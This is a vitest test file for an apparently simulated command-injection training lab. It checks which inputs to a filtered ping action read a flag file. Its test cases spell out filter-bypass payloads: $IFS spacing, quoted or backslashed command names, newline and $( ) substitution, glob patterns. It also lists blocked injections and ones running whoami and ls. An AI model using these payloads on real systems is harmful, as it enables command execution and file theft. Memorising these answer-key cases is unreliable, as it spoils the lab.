import { describe, expect, it } from 'vitest';

import { expectFlag, expectNoFlag, runLab } from '../lab-test-helpers.js';

import { commandInjectionLab } from './command-injection.js';

function ping(host: string) {
  return runLab(commandInjectionLab, 'ping', { host });
}

describe('command-injection lab: bypasses of the filter read the flag', () => {
  it.each([
    ['substitution into ping’s error message', '127.0.0.1$(tac${IFS}fl*)'],
    ['backticks, head and a ? pattern', '`head${IFS}-1${IFS}f???.txt`'],
    ['newline, then a quoted cat', "127.0.0.1\nc'a't${IFS}fl''ag.txt"],
    ['newline, backslashes and a tab', '127.0.0.1\nc\\at\tfl\\ag.txt'],
    ['newline and input redirection', '127.0.0.1\ntac<fl\\ag.txt'],
    ['$IFS without braces', '127.0.0.1\ntail$IFS-n1$IFS*.txt'],
    ['substitution in double quotes', '"$(tail${IFS}f*)"'],
    ['a character class', 'x$(tac${IFS}[f]lag.txt)'],
  ])('%s: %j', (_name, host) => {
    const result = ping(host);
    expect(result.code).toBe('flag-read');
    expect(result.output.stdout).toContain(result.output.flag);
    expectFlag(result);
  });
});

describe('command-injection lab: near-misses fail', () => {
  it.each([
    '127.0.0.1; cat flag.txt',
    '8.8.8.8 && cat flag.txt',
    'localhost | cat /var/www/html/flag.txt',
    '127.0.0.1;tac${IFS}fl*',
    '127.0.0.1|tac${IFS}fl*',
    '127.0.0.1$(cat${IFS}fl*)',
    '127.0.0.1$(tac${IFS}FLAG.txt)',
    'cat flag',
  ])('%j is blocked by the filter', (host) => {
    const result = ping(host);
    expect(result.code).toBe('blocked');
    expectNoFlag(result);
  });

  it.each([
    ['reading the flag on a line whose errors nobody sees', '127.0.0.1\ntac${IFS}fl*.php'],
    ['a glob that matches nothing', '127.0.0.1$(tac${IFS}fl*.bak)'],
    ['the flag reversed is not the flag', '127.0.0.1\nrev${IFS}fl*'],
    ['a command that does not exist', '127.0.0.1\nbase64${IFS}fl*'],
    ['a syntax error', "127.0.0.1$(tac${IFS}'fl*)"],
  ])('%s: %j', (_name, host) => {
    const result = ping(host);
    expect(result.ok).toBe(false);
    expectNoFlag(result);
  });

  it('pings a plain host and says it is reachable', () => {
    const result = ping('127.0.0.1');
    expect(result).toMatchObject({ code: 'reachable', output: { command: 'ping -c 1 127.0.0.1 2>&1' } });
    expect(result.output.stdout).toContain('1 packets transmitted, 1 received');
    expectNoFlag(result);
  });

  it('shows command output: whoami through a newline, ls through a quoted substitution', () => {
    expect(ping('127.0.0.1\nwhoami').output.stdout).toMatch(/www-data\n$/);
    const listing = ping('"$(ls${IFS}-la)"');
    expect(listing.code).toBe('command-output');
    expect(listing.output.stdout).toContain('flag.txt');
    expectNoFlag(listing);
  });

  it('shows nothing when the output went to standard error', () => {
    expect(ping('nowhere.invalid\ntrue').code).toBe('no-output');
  });

  it('answers unknown-action to anything else', () => {
    expect(runLab(commandInjectionLab, 'exec', { host: '; cat flag' }).code).toBe('unknown-action');
  });
});
